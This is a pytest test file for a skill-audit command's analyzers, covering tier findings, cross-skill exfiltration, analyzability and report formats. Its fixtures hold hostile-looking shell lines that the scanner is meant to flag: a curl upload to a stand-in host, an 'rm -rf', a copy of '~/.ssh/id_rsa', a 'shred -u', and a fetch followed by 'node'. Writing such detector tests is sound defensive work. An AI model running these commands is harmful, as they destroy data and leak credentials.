"""``audit`` with the analyzers beyond the rules (README "The audit"): tier mixes, dangling
links, analyzability and risks across skills in every output format; ``--analyzer`` and the
config's ``audit.enabled_analyzers`` choose them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]  # (it ships no type hints)
import pytest

from tests.audit_corpus import ELF
from tests.commands.test_audit_formats import _schema
from tests.conftest import CliRunner, make_skill, write_config

DEPLOY = ("#!/bin/sh\ncurl -T out.tgz https://upload.example/u\nrm -rf /srv/old\n"
          "python3 tool.py\n")


@pytest.fixture
def world(home: Path, source: Path) -> Path:
    write_config(home, "targets: {}\n")
    make_skill(source, "deploy", body="See [the notes](notes.md).\n",
               files={"scripts/up.sh": DEPLOY})
    make_skill(source, "keys", files={"scripts/k.sh": "cp ~/.ssh/id_rsa /tmp/k\n"})
    (make_skill(source, "assets") / "tool.bin").write_bytes(ELF * 4)
    make_skill(source, "clean")
    return source


def _by_name(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["name"]: s for s in data["skills"]}


def _rules(unit: dict[str, Any]) -> set[str]:
    return {f["rule"] for f in unit["findings"]}


def test_json_has_the_analyzers_findings_and_measures(cli: CliRunner, world: Path) -> None:
    data = cli("audit", "--json").json()
    skills = _by_name(data)
    deploy = skills["deploy"]
    assert {"tier-destructive-network", "tier-interpreter", "tier-interpreter-network",
            "dangling-link"} <= _rules(deploy)
    assert deploy["commands"] == "destructive:1 network:1 interpreter:1"
    assert deploy["tier_profile"] == {"counts": [0, 0, 1, 1, 0, 0, 1], "total": 3}
    assert "low-analyzability" in _rules(skills["assets"])
    assert skills["assets"]["analyzability"] < 0.7 and skills["clean"]["analyzability"] == 1.0
    assert not _rules(skills["clean"]) & {"dangling-link", "low-analyzability"}
    results = {r["skillName"]: r for r in data["results"]}
    one = results["deploy"]
    assert one["tierProfile"]["total"] == 3 and one["analyzability"] == 1.0
    assert one["totalBytes"] == one["auditableBytes"] > 0
    analyzers = {f["ruleId"]: f["analyzer"] for f in one["findings"]}
    assert analyzers["tier-destructive-network"] == "tier"
    assert analyzers["dangling-link"] == "structure"
    assert 0 < data["summary"]["avgAnalyzability"] < 1


def test_risks_across_skills_are_reported_apart_and_block_nothing(cli: CliRunner,
                                                                  world: Path) -> None:
    data = cli("audit", "-T", "high", "--json").json()
    cross = data["cross_skill"]
    assert cross["name"] == "_cross-skill" and not cross["blocked"]
    assert _rules(cross) == {"cross-skill-exfiltration"}
    assert "keys" in cross["findings"][0]["message"]
    assert data["results"][-1]["skillName"] == "_cross-skill"
    assert data["results"][-1]["findings"][0]["analyzer"] == "cross-skill"
    assert "_cross-skill" not in data["blocked"] and data["summary"]["scanned"] == 4
    alone = cli("audit", "keys", "--json").json()
    assert "cross_skill" not in alone


def test_analyzer_selection(cli: CliRunner, world: Path) -> None:
    static = cli("audit", "--analyzer", "static", "--json").json()
    made = set().union(*(_rules(s) for s in static["skills"]))
    assert not any(r.startswith(("tier-", "cross-")) or r == "dangling-link" for r in made)
    assert "cross_skill" not in static and static["analyzers_missing"] == []
    tier = cli("audit", "--analyzer", "tier", "--json").json()
    assert tier["rules"] == 0 and _rules(_by_name(tier)["deploy"]) == {
        "tier-destructive-network", "tier-interpreter", "tier-interpreter-network"}
    assert "cross_skill" not in tier
    cross = cli("audit", "--analyzer", "static,cross-skill", "--json").json()
    assert _rules(cross["cross_skill"]) == {"cross-skill-exfiltration"}
    assert not any(r.startswith("tier-") for s in cross["skills"] for r in _rules(s))
    # the credential reads it pairs come from the rules: without them, nothing to pair
    assert "cross_skill" not in cli("audit", "--analyzer", "cross-skill", "--json").json()
    assert cli("audit", "--analyzer", "structure", "--json").json()["analyzers_missing"] == []


def test_the_config_chooses_when_the_command_line_does_not(cli: CliRunner, home: Path,
                                                           world: Path) -> None:
    write_config(home, "targets: {}\naudit:\n  enabled_analyzers: [static, dataflow]\n")
    data = cli("audit", "deploy", "--json").json()
    assert data["analyzers"] == ["static", "dataflow"]
    assert not {r for r in _rules(data["skills"][0]) if r.startswith("tier-")}
    assert "tier-interpreter" in _rules(
        cli("audit", "deploy", "--analyzer", "tier", "--json").json()["skills"][0])


def test_text_shows_auditable_commands_and_the_cross_skill_block(cli: CliRunner,
                                                                 world: Path) -> None:
    out = cli("audit").out
    assert "    → Commands: destructive:1 network:1 interpreter:1" in out
    assert "    → Auditable: 100%" in out
    lines = out.splitlines()
    block = next(i for i, line in enumerate(lines) if "_cross-skill" in line)
    assert "block nothing" in lines[block]
    assert "(across skills)  cross-skill-exfiltration" in lines[block + 1]
    assert "(whole skill)  low-analyzability" in out and "auditable " in out
    single = cli("audit", "clean").out
    assert "✓ clean\n    → Auditable: 100%" in single


def test_sarif_and_markdown_carry_them(cli: CliRunner, world: Path) -> None:
    log = json.loads(cli("audit", "--format", "sarif").out)
    jsonschema.Draft4Validator(_schema()).validate(log)
    rules = {r["id"] for r in log["runs"][0]["tool"]["driver"]["rules"]}
    assert {"tier-destructive-network", "dangling-link", "low-analyzability",
            "cross-skill-exfiltration"} <= rules
    uris = {r["ruleId"]: r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in log["runs"][0]["results"]}
    assert uris["tier-destructive-network"] == "deploy/scripts/up.sh"
    assert uris["low-analyzability"] == "assets/SKILL.md"
    assert uris["cross-skill-exfiltration"] == "."
    report = cli("audit", "--format", "markdown").out
    assert "Auditable: 100% · Commands: destructive:1 network:1 interpreter:1" in report
    assert "#### \\_cross-skill" in report and "avg." in report


def test_a_check_turned_off_in_the_users_rules_stays_off(cli: CliRunner, home: Path,
                                                         world: Path) -> None:
    make_skill(world, "hider", files={"scripts/h.sh": "shred -u notes.txt\n"})
    before = _by_name(cli("audit", "hider", "--json").json())["hider"]
    assert {"stealth-commands", "tier-stealth"} & _rules(before)
    rules = home / ".config/skillshare/audit-rules.yaml"
    rules.write_text("rules:\n  - id: tier-stealth\n    enabled: false\n")  # the original's
    after = _by_name(cli("audit", "hider", "--json").json())["hider"]
    assert not {"stealth-commands", "tier-stealth"} & _rules(after)


def test_an_agent_gets_its_tier_findings(cli: CliRunner, agents: Path) -> None:
    agents.mkdir(parents=True)
    (agents / "fetcher.md").write_text("# Fetcher\n```bash\ncurl -s https://x.example/a\n"
                                       "node run.js\n```\n")
    data = cli("audit", "agents", "--json").json()
    (agent,) = data["agents"]
    assert {(f["rule"], f["path"], f["line"]) for f in agent["findings"]} >= {
        ("tier-interpreter-network", "fetcher.md", 4)}
    assert agent["commands"] == "network:1 interpreter:1" and agent["analyzability"] == 1.0
    assert data["results"][0]["tierProfile"]["total"] == 2


def test_a_rule_file_turns_the_checks_off_and_grades_them(cli: CliRunner, home: Path,
                                                           world: Path) -> None:
    """The original's check ids in a user rule file of its format: a check turned off is
    not reported, one given a severity is reported at it (cross-skill ones too)."""
    before = _by_name(cli("audit", "--json").json())["deploy"]
    assert {"tier-interpreter", "dangling-link"} <= _rules(before)
    (home / ".config/skillshare/audit-rules.yaml").write_text(
        "rules:\n  - {id: tier-interpreter, enabled: false}\n"
        "  - {id: dangling-link, severity: MEDIUM}\n"
        "  - {id: cross-skill-exfiltration, severity: LOW}\n")
    data = cli("audit", "--json").json()
    assert data["warnings"] == []
    deploy = _by_name(data)["deploy"]
    assert "tier-interpreter" not in _rules(deploy)
    assert {f["severity"] for f in deploy["findings"] if f["rule"] == "dangling-link"} == {
        "MEDIUM"}
    cross = {f["rule"]: f["severity"] for f in data["cross_skill"]["findings"]}
    assert cross["cross-skill-exfiltration"] == "LOW"
    rules = {r["id"]: r["severity"] for r in cli("audit", "rules", "--json").json()["rules"]}
    assert rules["credential-flow"] == "HIGH"  # the rule within one skill is not graded
